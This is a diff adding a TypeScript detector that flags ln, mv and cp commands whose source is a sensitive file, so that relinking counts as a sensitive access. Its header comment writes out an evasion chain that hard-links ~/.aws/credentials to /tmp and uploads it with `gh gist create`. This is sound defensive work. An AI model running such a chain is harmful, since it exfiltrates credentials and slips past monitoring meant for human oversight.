@@ -1,0 +1,41 @@
+/**
+ * A file renamed or linked under another name is read later by that name, which says nothing: `ln
+ * ~/.aws/credentials /tmp/c` (a hard link: no read at all) or `mv` it, then `gh gist create /tmp/c` reads
+ * `/tmp/c`. Found by red-team review: that push was `low` where reading the file directly makes it `high`.
+ * The link's own command line names the source, so a sensitive source counts as a sensitive access by the
+ * process that linked it (engine.ts onExec). `cp` is here too: `cp --reflink`/`-l` copy without a read.
+ * A link made without an exec (`os.link()` in a script) is not seen.
+ */
+
+import { basename, tokenize } from '../rules/argv.js';
+import { appletOf, MULTI_CALL } from '../rules/launchers.js';
+
+const RELINKERS = new Set(['ln', 'link', 'mv', 'cp']);
+/** Their options that take the next word (GNU coreutils; busybox takes a subset). */
+const VALUED = new Set(['-t', '-S', '--suffix']);
+
+/** The source paths a `ln`/`link`/`mv`/`cp` command line names (made absolute from `/` when relative), or none. */
+export function relinkedSources(binary: string | null, args: string | null): string[] {
+  // Called for every exec: the name is checked before any argv is split.
+  const name = basename(binary);
+  const program = MULTI_CALL.has(name) ? appletOf({ binary, args }) : { binary, args };
+  if (program === null || !RELINKERS.has(basename(program.binary))) return [];
+  const words = tokenize(program.args);
+  const positionals: string[] = [];
+  let targetGiven = false;
+  for (let i = 0; i < words.length; i++) {
+    const w = words[i]!;
+    if (w === '--') {
+      positionals.push(...words.slice(i + 1));
+      break;
+    }
+    if (w.length < 2 || w[0] !== '-') positionals.push(w);
+    else if (w === '-t' || w.startsWith('--target-directory')) {
+      targetGiven = true;
+      if (w === '-t' || w === '--target-directory') i++;
+    } else if (VALUED.has(w)) i++;
+  }
+  // `ln SRC` links into the working directory; otherwise the last word is the destination.
+  const sources = targetGiven || positionals.length === 1 ? positionals : positionals.slice(0, -1);
+  return sources.map((p) => (p.startsWith('/') ? p : `/${p.replace(/^(?:\.\/)+/, '')}`));
+}
